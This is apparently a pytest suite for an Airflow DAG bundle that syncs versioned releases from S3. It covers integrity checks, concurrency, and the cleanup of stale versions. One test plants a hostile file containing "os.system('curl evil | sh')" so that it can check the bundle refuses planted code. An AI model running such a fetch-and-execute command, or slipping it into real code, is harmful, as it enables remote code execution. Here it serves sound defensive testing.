"""The versioned DAG bundle (dagfactory_s3.bundle) against the moto server, in process and with Airflow's
own stale-version cleanup; in every Airflow cell. A run through the scheduler and task runner:
tests/test_bundle_run.py.

Packages are published with the real publisher; the bundle reads S3 through the counting proxy.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import boto3
import pytest

pytest.importorskip("airflow", reason="needs the [airflow] extra")

from dagfactory_s3 import pending, stub
from dagfactory_s3.bundle import Mapping, S3ReleaseDagBundle
from dagfactory_s3.errors import SyncError
from dagfactory_s3.naming import object_name
from dagfactory_s3.pending import PENDING_FILE
from dagfactory_s3.publisher import cli
from dagfactory_s3.release import CONTENT_OBJECTS, FileEntry, Release

from airflow_env import airflow_env
from conftest import EXAMPLES
from s3server import aws_env

pytestmark = [pytest.mark.airflow, pytest.mark.compat]

ENV = "dev"
SEEDER = "reporting_seeder"
IMAGE = "123456789012.dkr.ecr.us-east-1.amazonaws.com/reporting-seeder:"


def publish(bucket: str, src: Path, package: str) -> None:
    argv = ["publish", "--bucket", bucket, "--environment", ENV, "--package-name", package]
    assert cli.main([*argv, "--dag-path", str(src)]) == 0


def package_dir(tmp_path: Path, package: str, image_tag: str | None = None) -> Path:
    """A copy of an example package; ``image_tag`` replaces the reporting_seeder image tag."""
    dest = tmp_path / f"src-{package}-{image_tag or 'orig'}"
    while dest.exists():
        dest = dest.with_name(dest.name + "+")
    shutil.copytree(EXAMPLES / package / "airflow_dags", dest)
    if image_tag:
        for path in dest.glob("*.json"):
            path.write_text(path.read_text().replace(IMAGE + "2.4.1", IMAGE + image_tag))
    return dest


def bundle(storage: Path, monkeypatch: pytest.MonkeyPatch, bucket: str, version: str | None = None, **kwargs):
    """A bundle whose Airflow storage is ``storage`` (one machine's disk)."""
    monkeypatch.setenv("AIRFLOW__DAG_PROCESSOR__DAG_BUNDLE_STORAGE_PATH", str(storage))
    return S3ReleaseDagBundle(name="etl", bucket=bucket, environment=ENV, version=version, **kwargs)


@dataclass(frozen=True)
class Current:
    version: str
    data: dict


def current(b: S3ReleaseDagBundle) -> Current:
    """The bundle's current version and its mapping, on every minor: Airflow 3.3 returns a BundleVersion
    carrying the mapping as its data, older minors the version string (the mapping is the local file)."""
    got = b.get_current_version()
    version = getattr(got, "version", got)
    data = json.loads((b.mappings_dir / f"{version}.json").read_text())
    assert isinstance(version, str) and getattr(got, "data", data) == data
    return Current(version, data)


def tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def fetched(root: Path) -> dict[str, bytes]:
    """A worker's tree once every stub of it has been parsed: each pending manifest fetched as the
    loader does (dagfactory_s3.pending), the pending lists left out."""
    for listing in root.glob(f"*/{PENDING_FILE}"):
        for name in json.loads(listing.read_text())["files"]:
            assert pending.fetch(str(listing.parent / "dags" / name))
    return {k: v for k, v in tree(root).items() if not k.endswith(PENDING_FILE)}


def image_of(root: Path, dag_id: str, package: str = SEEDER) -> str:
    doc = json.loads((root / package / "dags" / f"{dag_id}.json").read_text())
    return doc["task_defaults"]["image"]


# -- versions name the exact set of releases --------------------------------------------------------


def test_a_worker_rebuilds_an_old_version_from_s3_alone(s3, bucket, tmp_path, monkeypatch):
    """Versions name the set of releases; a machine that never saw v1 rebuilds it exactly after R2."""
    publish(bucket, package_dir(tmp_path, SEEDER), SEEDER)
    publish(bucket, package_dir(tmp_path, "pipeline_processing"), "pipeline_processing")
    processor = bundle(tmp_path / "processor", monkeypatch, bucket)
    processor.initialize()
    v1 = current(processor)
    assert image_of(processor.path, "reporting_seeder_refresh_all") == IMAGE + "2.4.1"
    assert sorted(v1.data["releases"]) == ["pipeline_processing", SEEDER]
    processor_tree_v1 = tree(processor.path)

    processor.refresh()
    assert current(processor) == v1, "nothing published: the same version"

    publish(bucket, package_dir(tmp_path, SEEDER, "2.4.2"), SEEDER)
    processor.refresh()
    v2 = current(processor)
    assert v2.version != v1.version and v2.data["releases"][SEEDER] != v1.data["releases"][SEEDER]
    assert image_of(processor.path, "reporting_seeder_refresh_all") == IMAGE + "2.4.2"

    s3.clear()
    worker = bundle(tmp_path / "worker", monkeypatch, bucket, version=v1.version)
    worker.initialize()
    assert worker.path == tmp_path / "worker" / "etl" / "versions" / v1.version
    # the version's index, which the dag-processor wrote when it made v1: one GET, no LIST, no record
    assert (s3.count("LIST"), s3.count("GET"), s3.count("PUT")) == (0, 1, 0)
    assert fetched(worker.path) == processor_tree_v1
    s3.clear()
    history = bundle(tmp_path / "worker-h", monkeypatch, bucket, version=v1.version, version_index=False)
    history.initialize()
    # without indexes: one delimited LIST for the packages, each package's record (its chain reaches
    # back to v1) by GET, and the platform policy's pointer (none here)
    assert (s3.count("LIST"), s3.count("GET"), s3.count("PUT")) == (1, 3, 0)
    assert fetched(history.path) == processor_tree_v1
    s3.clear()
    again = bundle(tmp_path / "worker", monkeypatch, bucket, version=v1.version)
    again.initialize()
    assert s3.count() == 0, "a materialized version costs no request on that machine again"


def test_a_task_start_on_a_fresh_disk_fetches_only_the_manifest_it_runs(s3, bucket, tmp_path, monkeypatch):
    """A worker's version holds every stub and no manifest its cache lacks; parsing one stub (the task
    runner's parse, through the loader) fetches that one manifest, verified, and nothing else."""
    from dagfactory_s3.loader import load_dag

    publish(bucket, package_dir(tmp_path, SEEDER), SEEDER)
    publish(bucket, package_dir(tmp_path, "pipeline_processing"), "pipeline_processing")
    processor = bundle(tmp_path / "processor", monkeypatch, bucket)
    processor.initialize()
    version = current(processor).version
    s3.clear()
    worker = bundle(tmp_path / "worker", monkeypatch, bucket, version=version)
    worker.initialize()
    assert s3.count() == s3.count("GET") == 1, "the version's index: no LIST, no record, no manifest"
    dags = worker.path / SEEDER / "dags"
    assert sorted(p.name for p in dags.iterdir()) == [
        "reporting_seeder_refresh_agency.py",
        "reporting_seeder_refresh_all.py",
    ]
    s3.clear()
    dag = load_dag(str(dags / "reporting_seeder_refresh_all.py"), "reporting_seeder_refresh_all.json", api=1)
    assert {t.image for t in dag.tasks} == {IMAGE + "2.4.1"}
    assert s3.count() == 1 and s3.count("GET") == 1
    assert (dags / "reporting_seeder_refresh_all.json").read_bytes() == (
        processor.path / SEEDER / "dags" / "reporting_seeder_refresh_all.json"
    ).read_bytes()
    assert not (dags / "reporting_seeder_refresh_agency.json").exists()
    s3.clear()
    load_dag(str(dags / "reporting_seeder_refresh_all.py"), "reporting_seeder_refresh_all.json", api=1)
    assert s3.count() == 0, "the next task of the run on this machine parses from disk"


def test_a_pending_manifest_that_does_not_match_its_sha256_is_refused(s3, bucket, tmp_path, monkeypatch):
    """Content replaced in S3 after the version was made: the task's parse fails with one line naming
    the object and the recorded sha256, and nothing lands in the tree or the cache."""
    from dagfactory_s3.loader import load_dag

    publish(bucket, package_dir(tmp_path, SEEDER), SEEDER)
    processor = bundle(tmp_path / "processor", monkeypatch, bucket)
    processor.initialize()
    worker = bundle(tmp_path / "worker", monkeypatch, bucket, version=current(processor).version)
    worker.initialize()
    listing = json.loads((worker.path / SEEDER / PENDING_FILE).read_text())
    entry = listing["files"]["reporting_seeder_refresh_all.json"]
    boto3.client("s3", endpoint_url=s3.upstream).put_object(Bucket=bucket, Key=entry["key"], Body=b"{}")
    dags = worker.path / SEEDER / "dags"
    with pytest.raises(SyncError) as caught:
        load_dag(str(dags / "reporting_seeder_refresh_all.py"), "reporting_seeder_refresh_all.json", api=1)
    assert str(caught.value) == (
        f"{dags / 'reporting_seeder_refresh_all.json'}: cannot fetch this version's manifest: "
        f"s3://{bucket}/{entry['key']} does not match the recorded sha256 {entry['sha256']}"
    )
    assert not (dags / "reporting_seeder_refresh_all.json").exists()
    assert not list((tmp_path / "worker" / "etl" / "objects").glob("*/*"))


def test_concurrent_task_starts_materialize_a_version_once(s3, bucket, tmp_path, monkeypatch):
    """Four task starts at the same version on one machine at once: one builds it (under the base
    class's lock), the others find it built; every one sees the whole tree."""
    publish(bucket, package_dir(tmp_path, SEEDER), SEEDER)
    processor = bundle(tmp_path / "processor", monkeypatch, bucket)
    processor.initialize()
    version = current(processor).version
    workers = [bundle(tmp_path / "worker", monkeypatch, bucket, version=version) for _ in range(4)]
    s3.clear()
    with ThreadPoolExecutor(4) as pool:
        list(pool.map(lambda w: w.initialize(), workers))
    assert sorted(sum(w.requests.values()) > 0 for w in workers) == [False, False, False, True]
    with ThreadPoolExecutor(4) as pool:  # and their parses fetch the same manifests at once
        trees = list(pool.map(lambda w: fetched(w.path), workers))
    assert trees == [tree(processor.path)] * 4
    assert not [p for p in (tmp_path / "worker" / "etl" / "versions").iterdir() if p.name != version]


def test_a_publish_of_one_package_cannot_change_another_packages_content(s3, bucket, tmp_path, monkeypatch):
    """Two packages: publishing pipeline_processing changes only its own line of the next version."""
    publish(bucket, package_dir(tmp_path, SEEDER), SEEDER)
    publish(bucket, package_dir(tmp_path, "pipeline_processing"), "pipeline_processing")
    processor = bundle(tmp_path / "processor", monkeypatch, bucket)
    processor.initialize()
    v1 = current(processor)
    seeder_v1 = tree(processor.path / SEEDER)

    other = package_dir(tmp_path, "pipeline_processing")
    doc = json.loads((other / "pipeline_processing_example_job.json").read_text())
    doc["description"] = "changed by the pipeline_processing team"
    (other / "pipeline_processing_example_job.json").write_text(json.dumps(doc))
    publish(bucket, other, "pipeline_processing")
    processor.refresh()
    v2 = current(processor)
    assert v2.version != v1.version
    assert v2.data["releases"][SEEDER] == v1.data["releases"][SEEDER]
    assert tree(processor.path / SEEDER) == seeder_v1
    for version in (v1, v2):
        worker = bundle(tmp_path / f"worker-{version.version}", monkeypatch, bucket, version=version.version)
        worker.initialize()
        assert {
            k.partition("/")[2]: v for k, v in fetched(worker.path).items() if k.startswith(SEEDER)
        } == seeder_v1


def test_fail_static_a_release_with_missing_content_keeps_the_previous_one(s3, bucket, tmp_path, monkeypatch):
    """A release whose content object was deleted is not served; the package keeps its previous release."""
    publish(bucket, package_dir(tmp_path, SEEDER), SEEDER)
    processor = bundle(tmp_path / "processor", monkeypatch, bucket)
    processor.initialize()
    v1 = current(processor)
    publish(bucket, package_dir(tmp_path, SEEDER, "2.4.2"), SEEDER)
    raw = (
        boto3.client("s3", endpoint_url=s3.upstream)
        .get_object(Bucket=bucket, Key=f"{ENV}/{SEEDER}/metadata.json")["Body"]
        .read()
    )
    record = json.loads(raw)
    sha = record["files"]["dags/reporting_seeder_refresh_all.json"]["sha256"]
    boto3.client("s3", endpoint_url=s3.upstream).delete_object(
        Bucket=bucket, Key=f"{ENV}/{SEEDER}/_releases/objects/{sha}"
    )
    processor.refresh()
    assert current(processor) == v1
    assert image_of(processor.path, "reporting_seeder_refresh_all") == IMAGE + "2.4.1"


def test_mass_delete_guard_keeps_a_vanished_package(s3, bucket, tmp_path, monkeypatch):
    """A package whose objects all vanish (a lost listing looks the same) keeps being served."""
    publish(bucket, package_dir(tmp_path, SEEDER), SEEDER)
    processor = bundle(tmp_path / "processor", monkeypatch, bucket)
    processor.initialize()
    v1 = current(processor)
    client = boto3.client("s3", endpoint_url=s3.upstream)
    client.delete_object(Bucket=bucket, Key=f"{ENV}/{SEEDER}/metadata.json")
    processor.refresh()
    assert current(processor) == v1
    assert (processor.path / SEEDER / "dags" / "reporting_seeder_refresh_all.py").is_file()


def hostile_release(
    client,
    bucket: str,
    package: str,
    files: dict[str, bytes],
    release_id: str = "20991231T000000.000Z-abcdef",
) -> str:
    """Commit a hand-made release record (not the publisher's: it would refuse these files, or this id)."""
    for data in files.values():
        key = f"{ENV}/{package}/{object_name(hashlib.sha256(data).hexdigest())}"
        client.put_object(Bucket=bucket, Key=key, Body=data)
    record = Release(
        package,
        ENV,
        release_id,
        "2099-12-31T00:00:00Z",
        "hand-made",
        files={k: FileEntry(hashlib.sha256(v).hexdigest(), len(v)) for k, v in files.items()},
        content=CONTENT_OBJECTS,
    ).to_json()
    client.put_object(Bucket=bucket, Key=f"{ENV}/{package}/_releases/{release_id}.json", Body=record)
    client.put_object(Bucket=bucket, Key=f"{ENV}/{package}/metadata.json", Body=record)
    return release_id


def test_only_canonical_stubs_and_owned_manifests_are_served(s3, bucket, tmp_path, monkeypatch):
    """A record naming planted Python and a manifest claiming another package: the bundle serves the
    owned manifests with stubs it writes itself, and neither the planted bytes nor the foreign claim."""
    good = (EXAMPLES / SEEDER / "airflow_dags" / "reporting_seeder_refresh_all.json").read_bytes()
    foreign = json.loads(good)
    foreign.update(package="pipeline_processing", dag_id="reporting_seeder_foreign")
    planted = b"import os; os.system('curl evil | sh')\n"
    release_id = hostile_release(
        boto3.client("s3", endpoint_url=s3.upstream),
        bucket,
        SEEDER,
        {
            "dags/reporting_seeder_refresh_all.json": good,
            "dags/reporting_seeder_refresh_all.py": planted,
            "dags/reporting_seeder_foreign.json": json.dumps(foreign).encode(),
        },
    )
    processor = bundle(tmp_path / "processor", monkeypatch, bucket)
    processor.initialize()
    assert current(processor).data["releases"] == {SEEDER: release_id}
    served = tree(processor.path)
    assert sorted(served) == [
        f"{SEEDER}/.airflowignore",
        f"{SEEDER}/dags/reporting_seeder_refresh_all.json",
        f"{SEEDER}/dags/reporting_seeder_refresh_all.py",
    ]
    assert served[f"{SEEDER}/dags/reporting_seeder_refresh_all.py"] == stub.stub_for(
        "reporting_seeder_refresh_all.py"
    )


def test_a_worker_finds_the_version_when_a_publish_committed_across_it(s3, bucket, tmp_path, monkeypatch):
    """A release whose id is older than a version's instant but which committed after the version was
    read (a slow publish, a CI clock behind): the worker's first guess includes it, the digest says no,
    and it finds the version without it."""
    client = boto3.client("s3", endpoint_url=s3.upstream)
    good = (EXAMPLES / SEEDER / "airflow_dags" / "reporting_seeder_refresh_all.json").read_bytes()
    hostile_release(client, bucket, SEEDER, {"dags/reporting_seeder_refresh_all.json": good})
    processor = bundle(tmp_path / "processor", monkeypatch, bucket)
    processor.initialize()
    version = current(processor).version
    assert version.startswith("20991231T000000.000Z-"), "T is not before any release of the version"
    other = (
        EXAMPLES / "pipeline_processing" / "airflow_dags" / "pipeline_processing_example_job.json"
    ).read_bytes()
    late = "20991230T000000.000Z-aaaaaa"  # before T, committed after the version was read
    hostile_release(
        client, bucket, "pipeline_processing", {"dags/pipeline_processing_example_job.json": other}, late
    )
    worker = bundle(tmp_path / "worker", monkeypatch, bucket, version=version)
    worker.initialize()
    assert sorted(fetched(worker.path)) == sorted(tree(processor.path))
    assert not (worker.path / "pipeline_processing").exists()


# Airflow's stale-version cleanup, as the dag-processor and workers run it (a fresh process: Airflow
# fixes its tracking folder when first imported).
CLEANUP = """
from airflow.dag_processing.bundles.base import BundleUsageTrackingManager, BundleVersionLock
import sys
for version in sys.argv[1:]:
    with BundleVersionLock(bundle_name="etl", bundle_version=version):
        pass  # what a task does while it runs: mark the version used
BundleUsageTrackingManager().remove_stale_bundle_versions()
"""


def test_stale_versions_are_cleaned(s3, bucket, tmp_path, monkeypatch):
    """Airflow removes a versioned bundle's unused worker versions; the bundle keeps a few dag-processor
    trees and drops cached content no tree links any more."""
    processor = bundle(tmp_path / "node", monkeypatch, bucket)
    processor.versions.cache_grace = 0
    versions = []
    for tag in ("2.5.0", "2.5.1", "2.5.2", "2.5.3", "2.5.4"):
        publish(bucket, package_dir(tmp_path, SEEDER, tag), SEEDER)
        processor.refresh()
        versions.append(current(processor).version)
    trees = sorted(p.name for p in (tmp_path / "node" / "etl" / "tracking").iterdir())
    assert trees == versions[-3:] and processor.path.resolve().name == versions[-1]
    cached = [p for p in (tmp_path / "node" / "etl" / "objects").glob("*/*")]
    assert all(p.stat().st_nlink > 1 for p in cached), "content of dropped trees is gone from the cache"
    # refresh_all (its image changes) in each of the 3 kept trees, refresh_agency (unchanged) shared by all
    assert len(cached) == 3 + 1

    for version in versions[:2]:
        bundle(tmp_path / "node", monkeypatch, bucket, version=version).initialize()
    assert sorted(p.name for p in (tmp_path / "node" / "etl" / "versions").iterdir()) == versions[:2]
    env = {
        **airflow_env(tmp_path / "home", tmp_path / "unused"),
        **{k: v for k, v in aws_env(s3.url).items() if k.startswith("AWS_")},
        "AIRFLOW__DAG_PROCESSOR__DAG_BUNDLE_STORAGE_PATH": str(tmp_path / "node"),
        "AIRFLOW__DAG_PROCESSOR__DAG_BUNDLE_CONFIG_LIST": json.dumps(
            [
                {
                    "name": "etl",
                    "classpath": "dagfactory_s3.bundle.S3ReleaseDagBundle",
                    "kwargs": {"bucket": bucket, "environment": ENV},
                }
            ]
        ),
        "AIRFLOW__DAG_PROCESSOR__STALE_BUNDLE_CLEANUP_MIN_VERSIONS": "0",
        "AIRFLOW__DAG_PROCESSOR__STALE_BUNDLE_CLEANUP_AGE_THRESHOLD": "0",
    }
    (tmp_path / "home").mkdir()
    result = subprocess.run(
        [sys.executable, "-c", CLEANUP, *versions[:2]], env=env, capture_output=True, text=True, timeout=120
    )
    assert result.returncode == 0, result.stderr[-3000:]
    assert list((tmp_path / "node" / "etl" / "versions").iterdir()) == []


def test_an_unknown_version_is_a_clear_error(s3, bucket, tmp_path, monkeypatch):
    """A version no kept history matches fails the task start with one line saying why."""
    publish(bucket, package_dir(tmp_path, SEEDER), SEEDER)
    worker = bundle(tmp_path / "worker", monkeypatch, bucket, version="20240101T000000.000Z-" + "0" * 20)
    with pytest.raises(SyncError, match="cannot be rebuilt"):
        worker.initialize()


def test_mapping_digest_covers_bucket_environment_and_releases():
    """The version digest changes with any release, the bucket or the environment."""
    base = Mapping("b", "dev", {"a": "20240101T000000.000Z-aaaaaa"})
    assert base.digest() != Mapping("b", "prod", base.releases).digest()
    assert base.digest() != Mapping("c", "dev", base.releases).digest()
    assert base.digest() != Mapping("b", "dev", {"a": "20240101T000000.000Z-aaaaab"}).digest()
